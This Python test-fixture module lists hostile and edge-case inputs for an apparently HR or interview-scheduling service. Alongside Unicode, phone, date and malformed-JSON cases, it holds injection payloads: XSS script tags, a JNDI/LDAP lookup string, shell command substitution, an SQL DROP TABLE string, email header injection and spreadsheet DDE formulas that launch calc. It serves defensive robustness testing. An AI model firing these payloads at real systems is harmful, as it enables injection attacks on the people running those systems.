"""Values that break careless programs: what people paste, what attackers send, what programs misread (also used by the tests)."""

from typing import Any

NUL = "王\x00明"
HALF_PAIR = "王\ud800明"
TURNED = "王明\u202egnp.exe"
HIDDEN = "王\u200b\ufeff明"
HEADERS = "王明\r\nBcc: everybody@example.com\r\n\r\n<h1>"
MEGABYTE = "长" * 350_000
EMOJI = "👩‍👩‍👧‍👦🏳️‍🌈" * 40
COMBINING = "Z" + "\u0300\u0489\u20dd" * 600
ASTRAL = "𠮷" * 60
MARKUP = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
TEMPLATE = "{{7*7}} {link} {0} {x!r} %s %n ${jndi:ldap://127.0.0.1/a} $(id) `id`"
SQL = "'; DROP TABLE interviews; -- %_\\"

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
)
LOOKALIKE_MAILS = (
    "hr@ехample.com",  # Cyrillic е and х
    "hr@exаmple.com",
    "hr@gοogle.com",  # Greek omicron
    "hr@exam\u200bple.com",
    "hr@example.com\r\nBcc: x@example.com",
    "hr@example.com,other@example.com",
    "王明 <hr@example.com>",
    '"a b"@example.com',
    "hr@[127.0.0.1]",
    "ｈｒ＠ｅｘａｍｐｌｅ．ｃｏｍ",
)
PHONES = (
    "+86 139 0013 8001",
    "0086-13900138001",
    "86 13900138001",
    "+8613900138001",
    "＋８６１３９００１３８００１",
    "(+86)139-0013-8001",
    "+86+8613900138001",
    "+86 0139 0013 8001",
    "+86 12345678901",
    "139001380011390013800113900138001139001380",
    "١٣٩٠٠١٣٨٠٠١",  # Arabic-Indic digits
    "+86 139 0013 8001;ext=1",
    "tel:+8613900138001",
    "400-800-1234",
)
VAGUE = (
    "其 他",
    "其　他",
    "其他。。。",
    "ｏｔｈｅｒ",
    "o t h e r",
    "ＯＴＨＥＲ！",
    "个 人 原 因",
    "个\u200b人\u200b原\u200b因",
    "个人原因个人原因个人原因",
    "個人原因",
    "其\u0301他\u0301",
    "🙂",
    "…………",
    "１２３４５６７８",
    "n/a",
)

NUMBERS: tuple[Any, ...] = (
    True,
    -1,
    0,
    1.5,
    2**31,
    2**63,
    -(2**63) - 1,
    10**30,
    1e308,
    float("nan"),
    float("inf"),
    float("-inf"),
)
TIMES = (
    "2026-13-45T99:99:99Z",
    "9999-12-31T23:59:59-12:00",
    "0001-01-01T00:00:00+23:59",
    "2026-11-30T10:00:00",
    "2026-11-30T24:00:00Z",
    "2026-12-31T23:59:60Z",
    "2027-02-29T10:00:00+08:00",
    "-5",
    "1e400",
)
TEXTS = (
    "",
    " ",
    "\x00",
    NUL,
    HALF_PAIR,
    TURNED,
    HIDDEN,
    HEADERS,
    EMOJI,
    COMBINING,
    ASTRAL,
    MARKUP,
    TEMPLATE,
    SQL,
    "x" * 5000,
    *FORMULAS,
    *LOOKALIKE_MAILS,
    *PHONES,
    *VAGUE,
    *TIMES,
)
VALUES: tuple[Any, ...] = (None, [], [[]], ["x"] * 1000, {}, {"a": {"b": 1}}, *NUMBERS, *TEXTS)

# Bodies that are no request: given instead of the whole content.
BODIES = (
    b"",
    b"{",
    b"null",
    b"[]",
    b"NaN",
    b'"text"',
    b"\xff\xfe{\x00}\x00",
    b"\xef\xbb\xbf{}",
    b'{"position": "\xff"}',
    b'{"position": "\\ud800"}',
    b'{"\\u0000": 1, "\\ud800": 2}',
    b'{"duration_minutes": NaN, "timeliness": -Infinity}',
    b'{"duration_minutes": ' + b"9" * 5000 + b"}",
    b'{"duration_minutes": 1e999999}',
    b"[" * 10_000 + b"]" * 10_000,
    b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    b'{"reason_detail": "' + b"x" * 1_000_000 + b'"}',
    b"x" * 1_048_577,
)
